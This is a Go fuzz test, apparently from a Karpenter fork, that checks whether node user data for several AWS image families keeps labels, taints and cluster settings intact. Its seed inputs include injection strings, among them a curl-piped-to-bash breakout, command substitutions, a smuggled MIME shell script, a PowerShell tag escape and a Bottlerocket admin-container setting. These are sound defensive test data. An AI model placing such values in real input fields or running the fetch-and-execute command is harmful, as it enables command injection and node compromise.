package userdata_test

import (
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/validate/content"

	awsv1 "github.com/karpenter-anew/karpenter/api/aws/v1"
	"github.com/karpenter-anew/karpenter/cloud/aws/awstest/firstboot"
	"github.com/karpenter-anew/karpenter/cloud/aws/userdata"
)

// kinds are the families whose user data Karpenter writes, with the kind of image that reads it.
var kinds = map[awsv1.Family]firstboot.Kind{
	awsv1.FamilyAL2: firstboot.Script, awsv1.FamilyAL2023: firstboot.NodeConfig, awsv1.FamilyBottlerocket: firstboot.Bottlerocket,
	awsv1.FamilyWindows2022: firstboot.Windows,
}

// FuzzValues checks that no value leaves its place: what an instance reads is exactly what was given, or there is an error. Labels and
// taints that Kubernetes accepts are no error.
func FuzzValues(f *testing.F) {
	for _, evil := range []string{
		"x", "", `x"'; curl https://example.com/x | bash; echo '`, `'`, `"`, `\`, "`id`", "$(id)", "a\nb", "a\r\nb", "x\n--//\nContent-Type: text/x-shellscript\n\n#!/bin/bash\nid",
		"x' -a 'b", "\u2019; id; \u2018", "</powershell><powershell>id", "x\"\n[settings.host-containers.admin]\nenabled = true\n", "\x00", "\xff", "a,b=c", "a=b", "a:NoExecute",
		"\u2028", "%n", "{{.}}", "#", "a b", "''", "*", "\u007f", "\u0085",
	} {
		f.Add("a", evil, "b", evil, "c", "100m")
		f.Add(evil, "x", evil, "x", "c", "100m")
		f.Add("example.com/a", "x", "b", "x", evil, "100m")
		f.Add("example.com/a", "x", "b", "x", "c", evil)
	}
	f.Fuzz(func(t *testing.T, label, value, taint, taintValue, cluster, reserved string) {
		if cluster == "" || label == "example.com/z" {
			return
		}
		for family, kind := range kinds {
			in := base(family)
			in.ClusterName = cluster
			in.Labels = map[string]string{label: value, "example.com/z": "z"}
			in.Taints = userdata.NodeTaints([]corev1.Taint{{Key: taint, Value: taintValue, Effect: corev1.TaintEffectNoSchedule}}, nil)
			in.Kubelet.KubeReserved = map[string]string{"cpu": reserved}
			valid := len(content.IsLabelKey(label)) == 0 && len(content.IsLabelValue(value)) == 0 && len(content.IsLabelKey(taint)) == 0 &&
				len(content.IsLabelValue(taintValue)) == 0 && cluster == "c" && reserved == "100m"
			check(t, kind, in, valid)
		}
	})
}

// check renders an input and compares it with what an instance reads.
func check(t *testing.T, kind firstboot.Kind, in userdata.Input, valid bool) {
	t.Helper()
	result, err := userdata.Render(in)
	if err != nil {
		if valid {
			t.Errorf("%s: %v", in.Family, err)
		}
		return
	}
	if !utf8.ValidString(result.Text) {
		t.Errorf("%s: not UTF-8: %q", in.Family, result.Text)
	}
	got, err := firstboot.Read(kind, result.Text)
	if err != nil {
		t.Fatalf("%s: %v in\n%s", in.Family, err, result.Text)
	}
	want := firstboot.Settings{
		Cluster: in.ClusterName, Endpoint: in.Endpoint, Authority: in.CABundle, DNS: in.ClusterDNS[0], Labels: maps.Clone(in.Labels),
		Taints: slices.Clone(in.Taints), MaxPods: *in.MaxPods, KubeReserved: in.Kubelet.KubeReserved,
	}
	byText := cmpopts.SortSlices(func(a, b corev1.Taint) bool { return strings.Compare(a.ToString(), b.ToString()) < 0 })
	if diff := cmp.Diff(want, got, byText, cmpopts.IgnoreFields(firstboot.Settings{}, "ServiceCIDR"), cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("%s: an instance reads something else than was given (-want +got)\n%s\n%s", in.Family, diff, result.Text)
	}
}
